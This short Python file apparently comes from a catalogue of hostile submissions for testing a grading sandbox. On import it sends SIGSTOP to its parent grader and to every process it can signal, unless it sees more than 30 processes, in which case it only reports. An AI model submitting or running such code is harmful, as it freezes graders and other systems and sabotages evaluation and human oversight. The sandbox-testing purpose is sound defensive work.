"""Hostile submission (gradverify attack catalogue): SIGSTOP the grader and everything else, at import.

If it sees more than 30 processes it is evidently outside any sandbox: then it only reports.
"""

import os
import signal

_visible = [int(p) for p in os.listdir("/proc") if p.isdigit()]
if len(_visible) > 30:
    print(f"ATTACK-SUCCEEDED: outside any sandbox, kill -STOP -1 would freeze {len(_visible)} processes")
else:
    for target in (lambda: os.kill(os.getppid(), signal.SIGSTOP), lambda: os.kill(-1, signal.SIGSTOP),
                   lambda: os.kill(-1, signal.SIGTSTP)):
        try:
            target()
        except OSError:
            pass
